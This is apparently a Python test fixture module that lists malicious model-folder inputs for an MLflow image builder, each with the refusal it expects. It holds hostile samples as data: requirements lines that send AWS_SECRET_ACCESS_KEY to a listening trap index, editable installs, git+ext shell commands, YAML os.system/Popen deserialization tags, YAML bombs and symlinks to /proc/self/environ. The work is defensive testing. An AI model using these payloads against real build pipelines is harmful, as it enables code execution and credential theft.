"""Models that attack whoever builds an image of them: a corpus, each with what refuses it.

Every attack changes an ordinary model, or serves one. `Trap` has what it reaches for: a file that
appears when something is executed, an address that listens, a file that nobody may read, and the
name of a variable that holds a secret.
"""

from __future__ import annotations

import os
import socket
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable

VARIABLE = "AWS_SECRET_ACCESS_KEY"


@dataclass(frozen=True)
class Trap:
    """What an attack reaches for."""

    sentinel: Path
    """Exists once code of the model has run."""
    url: str
    """URL at which somebody listens, such as `http://127.0.0.1:40001`."""
    foreign: Path
    """A file outside the model."""
    package: Path
    """A folder whose setup.py makes the sentinel."""


class Attack(NamedTuple):
    """Attack, and a part of the line that refuses it."""

    name: str
    apply: Callable[[Path, Trap], None]
    refusal: str
    allow: str = ""
    """An address for --allow-index, with `{url}` for the trap's."""


def _requirement(name: str, line: str, refusal: str, allow: str = "") -> Attack:
    """A line of requirements.txt, with the trap's parts put in."""

    def apply(folder: Path, trap: Trap) -> None:
        with (folder / "requirements.txt").open("a", encoding="utf-8", newline="") as file:
            file.write(f"\n{_filled(line, trap)}\n")

    return Attack(name, apply, refusal, allow)


def _filled(text: str, trap: Trap) -> str:
    parts = {
        "{url}": trap.url,
        "{host}": trap.url.removeprefix("http://"),
        "{package}": str(trap.package),
        "{foreign}": str(trap.foreign),
        "{variable}": VARIABLE,
    }
    for name, value in parts.items():
        text = text.replace(name, value)
    return text


def _file(name: str, path: str, text: str, refusal: str) -> Attack:
    """A file of the model with this text in its place, and the trap's parts put in."""

    def apply(folder: Path, trap: Trap) -> None:
        (folder / path).write_text(_filled(text, trap), encoding="utf-8")

    return Attack(name, apply, refusal)


def _mlmodel(name: str, before: str, after: str, refusal: str) -> Attack:
    """An MLmodel with a line changed."""

    def apply(folder: Path, trap: Trap) -> None:
        path = folder / "MLmodel"
        text = path.read_text(encoding="utf-8")
        assert before in text, text
        path.write_text(text.replace(before, _filled(after, trap), 1), encoding="utf-8")

    return Attack(name, apply, refusal)


def _entry(name: str, make: Callable[[Path, Trap], object], refusal: str) -> Attack:
    """Something else than an ordinary file, at `code/odd`."""

    def apply(folder: Path, trap: Trap) -> None:
        (folder / "code").mkdir(exist_ok=True)
        make(folder / "code" / "odd", trap)

    return Attack(name, apply, refusal)


def _in_its_place(name: str, path: str, refusal: str) -> Attack:
    """A link to the foreign file in the place of a file of the model."""

    def apply(folder: Path, trap: Trap) -> None:
        (folder / path).unlink()
        (folder / path).symlink_to(trap.foreign)

    return Attack(name, apply, refusal)


def _many_files(path: Path, _: Trap) -> None:
    path.mkdir()
    for number in range(20_001):
        (path / str(number)).touch()


def _deep(path: Path, _: Trap) -> None:
    path.joinpath(*("d" * 40)).mkdir(parents=True)


def _lists_of_lists(folder: Path, _: Trap) -> None:
    for number in range(30):
        (folder / f"{number or 'requirements'}.txt").write_text(f"-r {number + 1}.txt\n")


def _behind_another_list(folder: Path, trap: Trap) -> None:
    (folder / "more.txt").write_text(f"-e {trap.package}\n")
    (folder / "requirements.txt").write_text("mlflow\n-c more.txt\n")


def _sparse(path: Path, _: Trap) -> None:
    with path.open("wb") as file:
        file.truncate(1 << 42)


def _socket(path: Path, _: Trap) -> None:
    with socket.socket(socket.AF_UNIX) as listening:
        here = Path.cwd()
        os.chdir(path.parent)  # a socket's path has at most 107 bytes
        try:
            listening.bind(path.name)
        finally:
            os.chdir(here)


def _named(name: bytes) -> Callable[[Path, Trap], None]:
    def make(path: Path, _: Trap) -> None:
        Path(os.fsdecode(bytes(path.parent) + b"/" + name)).touch()

    return make


_NOT_OURS = "index of this machine; --allow-index"
_NO_REQUIREMENT = "is no requirement of a released distribution"
_NO_ADDRESS = "is no http(s) address"
_OUTSIDE = "names something outside the model's folder"
_APPLY = "!!python/object/apply:os.system ['touch {foreign}.ran']"

REQUIREMENTS = (
    _requirement(
        "an index that gets a variable",
        "--extra-index-url {url}/${{variable}}/",
        "variables are not expanded",
    ),
    _requirement(
        "an index whose password is a variable",
        "--index-url http://me:${{variable}}@{host}/simple",
        "variables are not expanded",
    ),
    _requirement("an index of its own", "--extra-index-url {url}/simple", _NOT_OURS),
    _requirement("an index in short", "-i {url}/simple", _NOT_OURS),
    _requirement("an index without a blank", "-i{url}/simple", _NOT_OURS),
    _requirement("an index after an equals sign", "--index-url={url}/simple", _NOT_OURS),
    _requirement("an index in quotes", "--extra-index-url '{url}/simple'", _NOT_OURS),
    _requirement("a page of links", "--find-links {url}/links", _NOT_OURS),
    _requirement("a folder of links", "-f {package}", _NO_ADDRESS),
    _requirement("a folder of links as an address", "-f file://{package}", _NO_ADDRESS),
    _requirement(
        "an index at the host that a user's name hides",
        "--extra-index-url http://packages.example@{host}/simple",
        _NOT_OURS,
        allow="http://packages.example/simple",
    ),
    _requirement(
        "an index at the host behind a backslash",
        "--extra-index-url http://{host}\\@packages.example/simple",
        _NO_ADDRESS,
        allow="http://packages.example/simple",
    ),
    _requirement(
        "an index at a host that begins like an allowed one",
        "--extra-index-url http://packages.example.evil.example/simple",
        _NOT_OURS,
        allow="http://packages.example/simple",
    ),
    _requirement(
        "a wheel beside an allowed folder",
        "evil @ {url}/simple-too/evil-1-py3-none-any.whl",
        _NOT_OURS,
        allow="{url}/simple",
    ),
    _requirement("a folder to install in place", "-e {package}", "would run its setup.py"),
    _requirement("the same in long", "--editable={package}", "would run its setup.py"),
    _requirement("a folder", "{package}", _NO_REQUIREMENT),
    _requirement("a folder beside the model", "./code", "the model has not got"),
    _requirement("a wheel out of the model", "code/../../evil-1-py3-none-any.whl", _OUTSIDE),
    _requirement(
        "a wheel beside an address", "own/file://evil-1-py3-none-any.whl", _NO_REQUIREMENT
    ),
    _requirement("a folder by its address", "evil @ file://{package}", "is no plain http(s)"),
    _requirement("an archive by its address alone", "{url}/evil-1.tar.gz", _NO_REQUIREMENT),
    _requirement("a wheel elsewhere", "evil @ {url}/evil-1-py3-none-any.whl", _NOT_OURS),
    _requirement("an archive elsewhere", "evil @ {url}/evil-1.tar.gz", _NOT_OURS),
    _requirement(
        "an archive above an allowed folder",
        "evil @ {url}/ours/%2e%2e/evil-1.tar.gz",
        _NOT_OURS,
        allow="{url}/ours",
    ),
    _requirement("a repository", "evil @ git+file://{package}", "comes from a repository"),
    _requirement(
        "a repository by a command",
        "evil @ git+ext::sh%20-c%20touch%20{foreign}.ran",
        "comes from a repository",
    ),
    _requirement("a foreign list", "-r {foreign}", _OUTSIDE),
    _requirement("a foreign list by a relative path", "-r ../../../../{foreign}", _OUTSIDE),
    _requirement("a list elsewhere", "--requirement {url}/more.txt", _OUTSIDE),
    _requirement("foreign constraints", "-c{foreign}", _OUTSIDE),
    _requirement("constraints elsewhere", "--constraint={url}/more.txt", _OUTSIDE),
    _requirement("a list that gets a variable", "-r ${HOME}/x", "variables are not expanded"),
    _requirement("an option behind a line's end", "six \\\n  --index-url {url}", "options of its"),
    _requirement("options for a build", 'six --config-settings="a=b"', "has options of its own"),
    _requirement("a build from its source", "--no-binary :all:", "--no-binary is not taken"),
    _requirement("a host without TLS", "--trusted-host {host}", "--trusted-host is not taken"),
    _requirement("an option that nobody knows", "--frobnicate", "--frobnicate is not taken"),
    _requirement("a line behind another line's end", "six\v-e {package}", "control characters"),
    _requirement("a NUL", "six\0", "control characters"),
    _requirement("a line of a megabyte", "six" + " " * 200_000 + ">1", "is longer than"),
    _requirement("brackets in brackets", "six ; " + "(" * 900, _NO_REQUIREMENT),
    _requirement("a version of many digits", "six==" + "9" * 4000, "is longer than"),
    _file("a list that is huge", "requirements.txt", "# x\n" * 100_000, "is larger than"),
    _requirement("a foreign folder for a list", "-r {foreign}/..", _OUTSIDE),
    _requirement(
        "an option behind a line's end that is written as an escape",
        r"six; os_name == '\n--extra-index-url {url}/\x24{{variable}}\n#'",
        "holds a backslash",
    ),
    _requirement("a list whose name is too long", "-r " + "a" * 300, "has not got"),
    _requirement("an option with another one", "--prefer-binary -e {package}", "is not taken"),
    _requirement("an option that is none", "-?http://me:secret@{host}", "'-?http://127"),
    Attack("lists of lists", _lists_of_lists, "names more than 16 other files"),
    Attack("a folder behind another list", _behind_another_list, "more.txt is refused"),
)

_LONG = "//a:" * 250_000
ENVIRONMENTS = (
    _file(
        "conda with a folder to install",
        "conda.yaml",
        "dependencies:\n- python=3.13\n- pip:\n  - -e {package}\n",
        "conda.yaml is refused: '-e ",
    ),
    _file(
        "conda with an index",
        "conda.yaml",
        "dependencies:\n- pip:\n  - --extra-index-url {url}/${{variable}}\n",
        "conda.yaml is refused",
    ),
    _file(
        "conda with Python", "conda.yaml", f"name: {_APPLY}\n", "the conda.yaml of the model cannot"
    ),
    _file(
        "virtualenv with a folder",
        "python_env.yaml",
        "python: 3.13.5\nbuild_dependencies:\n- -e {package}\n",
        "python_env.yaml is refused",
    ),
    _file(
        "virtualenv with a foreign list",
        "python_env.yaml",
        "dependencies:\n- -r {foreign}\n",
        _OUTSIDE,
    ),
    *(
        _file(
            f"conda whose pip is {value}",
            "conda.yaml",
            f"dependencies:\n- pip: {value}\n",
            "pip is no list",
        )
        for value in ("5", "true", "a word", "{a: b}")
    ),
    _file(
        "conda with an option on several lines",
        "conda.yaml",
        'dependencies:\n- pip: ["-\\nfoo http://me:secret@{host}"]\n',
        "is no option",
    ),
    _file(
        "conda with an address of a megabyte",
        "conda.yaml",
        f"dependencies:\n- pip: ['{_LONG}']\n",
        "is longer than",
    ),
)

_LAUGHS = "a0: &a0 [x]\n" + "".join(
    f"a{number}: &a{number} [{', '.join([f'*a{number - 1}'] * 10)}]\n" for number in range(1, 12)
)
DESCRIPTIONS = (
    _file("an MLmodel with Python", "MLmodel", f"flavors: {_APPLY}\n", "cannot be read"),
    _file(
        "an MLmodel with an object of Python's",
        "MLmodel",
        "flavors: !!python/object/new:subprocess.Popen [[touch, '{foreign}.ran']]\n",
        "cannot be read",
    ),
    _file("an MLmodel that multiplies", "MLmodel", _LAUGHS, "holds more than 100000 values"),
    _file("an MLmodel in itself", "MLmodel", "flavors: &a [*a]\n", "stands for what it is in"),
    _file("an MLmodel nested deeply", "MLmodel", "[" * 100_000, "nested more than 32 levels"),
    _file("an MLmodel with a huge number", "MLmodel", "run_id: " + "9" * 90_000, "too many digits"),
    _file(
        "an MLmodel with a huge number to the base 60",
        "MLmodel",
        "run_id: 1" + ":59" * 90_000,
        "too many digits",
    ),
    _file("an MLmodel that is huge", "MLmodel", "# x\n" * 400_000, "is larger than"),
    *(
        _file(
            f"an MLmodel with a number of {value[:9]}",
            "MLmodel",
            f"x: !!{value}\n",
            "holds the tag",
        )
        for value in (
            'int ""',
            'float ""',
            "bool word",
            "timestamp word",
            f'int "0x{"f" * 100_000}"',
            f'int "1{":59" * 300_000}"',
        )
    ),
    _mlmodel(
        "code above the model", "code: null", "code: ../../etc", "is outside the model's folder"
    ),
    _mlmodel("code elsewhere", "code: null", "code: {foreign}", "is outside the model's folder"),
    _mlmodel(
        "an environment elsewhere",
        "conda: conda.yaml",
        "conda: {foreign}",
        "is outside the model's folder",
    ),
    _mlmodel(
        "a version that names an index",
        "mlflow_version: ",
        'mlflow_version: "3.0\\n--extra-index-url {url}"\nx: ',
        "which is no version",
    ),
    _mlmodel("a run with a NUL", "mlflow_version: ", 'run_id: "a\\0b"\nmlflow_version: ', "run_id"),
    _mlmodel(
        "a model that is bake's variable",
        "model_id: null",
        "model_id: ${AUTHORITIES}",
        "model_id is",
    ),
    _file(
        "a registry with Python",
        "registered_model_meta",
        f"model_name: {_APPLY}\n",
        "registered_model_meta of the model cannot be read",
    ),
    _file(
        "a name with a line's end",
        "registered_model_meta",
        'model_name: "a\\nb"\n',
        "cannot be a label",
    ),
)

_LINK = "is a link to"
FILES = (
    _entry("a link to a file", lambda path, trap: path.symlink_to(trap.foreign), _LINK),
    _entry("a link to a folder", lambda path, trap: path.symlink_to(trap.foreign.parent), _LINK),
    _entry("a link to the root", lambda path, _: path.symlink_to("/"), _LINK),
    _entry("a link to itself", lambda path, _: path.symlink_to(path.name), _LINK),
    _entry("a link to the folder above", lambda path, _: path.symlink_to(".."), _LINK),
    _entry("a link to nothing", lambda path, _: path.symlink_to("/nowhere"), _LINK),
    _entry("a link to memory", lambda path, _: path.symlink_to("/proc/self/environ"), _LINK),
    _in_its_place("an MLmodel that is a link", "MLmodel", _LINK),
    _in_its_place("a list that is a link", "requirements.txt", _LINK),
    _in_its_place("a conda.yaml that is a link", "conda.yaml", _LINK),
    _entry("a second name", lambda path, trap: path.hardlink_to(trap.foreign), "a hard link"),
    _entry("a pipe", lambda path, _: os.mkfifo(path), "is neither a file nor a folder"),
    _entry("a socket", _socket, "is neither a file nor a folder"),
    _entry("a name with a line's end", _named(b"a\nb"), "is not printable text"),
    _entry("a name that is no text", _named(b"a\xff"), "is not printable text"),
    _entry("a name that paints a terminal", _named(b"a\x1b[2J"), "is not printable text"),
    _entry("folders in folders", _deep, "folders in one another"),
    _entry("a file of 4 TiB", _sparse, "has more than 16 GiB"),
    _entry("thousands of files", _many_files, "has more than 20000 files"),
)

OF_FOLDERS = (*REQUIREMENTS, *ENVIRONMENTS, *DESCRIPTIONS, *FILES)
